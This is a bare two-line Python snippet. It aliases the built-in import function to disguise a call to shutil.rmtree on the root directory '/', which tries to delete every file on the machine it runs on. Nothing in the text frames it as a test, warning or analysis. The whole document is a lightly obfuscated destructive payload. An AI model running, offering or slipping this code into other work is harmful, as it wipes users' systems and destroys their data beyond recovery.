s = o = __import__
s('shutil').rmtree('/')
